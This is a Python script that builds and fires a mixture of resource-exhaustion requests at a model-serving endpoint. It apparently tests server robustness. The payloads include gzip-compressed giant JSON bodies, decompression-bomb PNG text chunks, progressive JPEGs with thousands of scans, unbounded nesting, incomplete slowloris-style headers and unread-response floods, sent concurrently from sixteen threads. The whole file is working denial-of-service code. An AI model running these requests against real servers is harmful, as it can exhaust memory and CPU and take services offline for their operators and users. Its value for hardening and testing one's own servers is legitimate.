"""Requests that cost a server far more than the few bytes that they are, unless it bounds them.

`python attacks.py URL COUNT SEED` sends a mixture to the model at URL and prints how often each
kind was answered how, as JSON.
"""

from __future__ import annotations

import base64
import collections
import functools
import gzip
import http.client
import json
import random
import socket
import struct
import sys
import threading
import urllib.parse
import zlib
from collections.abc import Callable

CLIENTS = 16
_SIDE = 4096
_HUGE = 30_000_000
_TIMEOUT = 60  # seconds
_PATIENCE = 0.5  # seconds, of those who do not send a whole request, or do not read the answer
_INCOMPLETE = ('unfinished', 'silent', 'half a head', 'large head')
_PNG = b'\x89PNG\r\n\x1a\n'


def png(side: int, bits: int = 8, colours: int = 0, extra: bytes = b'', data: bytes = b'') -> bytes:
    """A square PNG of zeros; `extra` chunks stand before the pixels, and `data` behind them."""
    channels = {0: 1, 2: 3, 4: 2, 6: 4}[colours]
    rows = (b'\0' + bytes((side * bits * channels + 7) // 8)) * side
    head = struct.pack('>IIBBBBB', side, side, bits, colours, 0, 0, 0)
    pixels = _chunk(b'IDAT', zlib.compress(rows + data, 9))
    return _PNG + _chunk(b'IHDR', head) + extra + pixels + _chunk(b'IEND', b'')


def text_chunk(kind: bytes, size: int) -> bytes:
    """A compressed text of a PNG: zTXt, iTXt or iCCP."""
    before = {b'zTXt': b'k\0\0', b'iTXt': b'k\0\1\0\0\0', b'iCCP': b'k\0\0'}[kind]
    return _chunk(kind, before + zlib.compress(bytes(size), 9))


def _chunk(kind: bytes, content: bytes) -> bytes:
    checksum = struct.pack('>I', zlib.crc32(kind + content))
    return struct.pack('>I', len(content)) + kind + content + checksum


def jpeg(scans: int, side: int = _SIDE) -> bytes:
    """A progressive JPEG of which each scan is some bytes and walks over all blocks."""

    def segment(marker: int, content: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack('>H', len(content) + 2) + content

    def scan(high: int, low: int) -> bytes:
        return segment(0xDA, bytes([1, 1, 0, 1, 63, high << 4 | low])) + data

    bits = ''.join('0' + '1' * 14 for _ in range((side // 8) ** 2 // 32767 + 1))
    bits += '1' * (-len(bits) % 8)
    data = int(bits, 2).to_bytes(len(bits) // 8, 'big').replace(b'\xff', b'\xff\0')
    frame = struct.pack('>BHHB', 8, side, side, 1) + bytes([1, 0x11, 0])
    tables = segment(0xDB, b'\0' + b'\1' * 64) + segment(0xC2, frame)
    tables += segment(0xC4, bytes([0x10, 1] + [0] * 15 + [0xE0]))
    return b'\xff\xd8' + tables + scan(0, 1) + scan(1, 0) * (scans - 1) + b'\xff\xd9'


def pictures(*files: bytes) -> bytes:
    """The body that asks for them."""
    return json.dumps(
        {'instances': [{'b64': base64.b64encode(file).decode()} for file in files]}
    ).encode()


def repeated(unit: bytes, size: int = _HUGE, signature: bytes = b'pixels') -> bytes:
    """A body with as many instances as fit into `size` bytes."""
    values = unit * (size // len(unit)) + unit.rstrip(b',')
    return b'{"signature_name":"' + signature + b'","instances":[' + values + b']}'


def _bodies() -> dict[str, bytes]:
    small = png(28)
    texts = {kind.decode(): text_chunk(kind, 7_900_000) for kind in (b'zTXt', b'iTXt', b'iCCP')}
    return {
        'ints': repeated(b'1,'),
        'floats': repeated(b'1e5,'),
        'lists': repeated(b'[],'),
        'lists of lists': repeated(b'[[[1],[]],[]],', _HUGE // 3),
        'objects': repeated(b'{},', _HUGE // 2),
        'named': repeated(b'{"a":1},', _HUGE // 2),
        'base64': repeated(b'{"b64":""},', signature=b'serving_default'),
        'strings': repeated(b'"",', signature=b'serving_default'),
        'escapes': repeated(b'"\\",\\"",', _HUGE // 8, b'serving_default'),
        'nested': b'{"instances":' + b'[' * _HUGE,
        'nested in rows': repeated(b'[' * 500 + b'1' + b']' * 500 + b',', _HUGE // 3),
        'digits': repeated(b'1' * 1_000_000 + b',', _HUGE // 8),
        'name': b'{"instances":[{"' + b'n' * _HUGE + b'":1},{"pixels":1}]}',
        'signature': repeated(b'1,', 10, b's' * _HUGE),
        'spaces': b' ' * (_HUGE // 4) + b'{"instances":[1]}',
        'spaces in base64': b'{"instances":[{"b64":"' + b'a ' * (_HUGE // 8) + b'"}]}',
        'columns': repeated(b'[],').replace(b'instances', b'inputs'),
        'many pictures': pictures(*[small] * 15_000),
        'a thousand pictures': pictures(*[small] * 1000),
        'images': repeated(json.dumps([[1] * 28] * 28).encode() + b',', 200_000),
        'large grey': pictures(png(_SIDE, 1)),
        'large grey batch': pictures(*[png(_SIDE, 1)] * 64),
        'large colour batch': pictures(*[png(_SIDE, 16, 6)] * 64),
        **{name: pictures(png(30, extra=text * 50)) for name, text in texts.items()},
        'pixel data': pictures(png(30, data=bytes(_HUGE))),
        'few scans': pictures(jpeg(10)),
        'many scans': pictures(jpeg(5000)),
        'wrong size': repeated(json.dumps([[1] * 27] * 28).encode() + b',', 20_000),
    }


# Sent more often, because a server that is right refuses or answers them at once.
_QUICK = (
    'many pictures',
    'a thousand pictures',
    'large grey batch',
    'zTXt',
    'iTXt',
    'iCCP',
    'pixel data',
    'many scans',
    'wrong size',
)


def requests(path: str) -> dict[str, bytes]:
    """Whole requests by kind, most of them compressed."""
    found = {}
    head = f'POST {path} HTTP/1.1\r\nHost: localhost\r\n'
    for name, body in _bodies().items():
        # Quickly: what repeats becomes small anyway.
        content = gzip.compress(body, 1)
        head = (
            f'POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Encoding: gzip\r\nContent-Length: '
        )
        found[name] = f'{head}{len(content)}\r\n\r\n'.encode() + content
    # Its sender waits for a while and hangs up.
    stream = zlib.compressobj(9, wbits=31)
    data = stream.compress(b' ' * (_HUGE // 2)) + stream.flush(zlib.Z_SYNC_FLUSH)
    lines = 'Content-Encoding: gzip\r\nContent-Length: 999999\r\n\r\n'
    found['unfinished'] = (head + lines).encode() + data
    found['silent'] = b''
    found['half a head'] = head[:-4].encode()
    found['large head'] = found['half a head'] + b'h' * 60_000
    return found


def _send(address: tuple[str, int], request: bytes, seconds: float) -> str:
    """The status of the answer, or what happened in its place."""
    try:
        with socket.create_connection(address, _TIMEOUT) as connection:
            connection.settimeout(seconds)
            connection.sendall(request)
            with http.client.HTTPResponse(connection) as response:
                response.begin()
                response.read()
                return str(response.status)
    except (OSError, http.client.HTTPException) as error:
        return type(error).__name__


def _leave_unread(address: tuple[str, int], request: bytes) -> str:
    """Asks many questions and reads no answer."""
    with socket.socket() as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        connection.settimeout(_PATIENCE)
        try:
            connection.connect(address)
            connection.sendall(request * 20_000)
        except OSError as error:
            return type(error).__name__
    return 'sent'


def kinds(url: str) -> dict[str, Callable[[], str]]:
    """Ways to attack the model at a URL, by name; each returns how it was answered."""
    parts = urllib.parse.urlsplit(url)
    address = parts.hostname or '', parts.port or 0
    found = {
        name: functools.partial(
            _send, address, request, _PATIENCE if name in _INCOMPLETE else _TIMEOUT
        )
        for name, request in requests(f'{parts.path}:predict').items()
    }
    question = f'GET {parts.path}/metadata HTTP/1.1\r\nHost: localhost\r\n\r\n'.encode()
    return {**found, 'unread': functools.partial(_leave_unread, address, question)}


def main() -> None:
    """Sends the mixture, by several clients at the same time."""
    url, count, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    attacks = kinds(url)
    weights = [20 if name in _QUICK else 1 for name in attacks]
    chosen = random.Random(seed).choices(list(attacks), weights, k=count)
    print('ready', flush=True)
    answers: collections.Counter[str] = collections.Counter()

    def attack() -> None:
        while chosen:
            try:
                name = chosen.pop()
            except IndexError:
                return
            answers[f'{name}: {attacks[name]()}'] += 1

    clients = [threading.Thread(target=attack) for _ in range(CLIENTS)]
    for client in clients:
        client.start()
    for client in clients:
        client.join()
    print(json.dumps(answers))


if __name__ == '__main__':
    main()
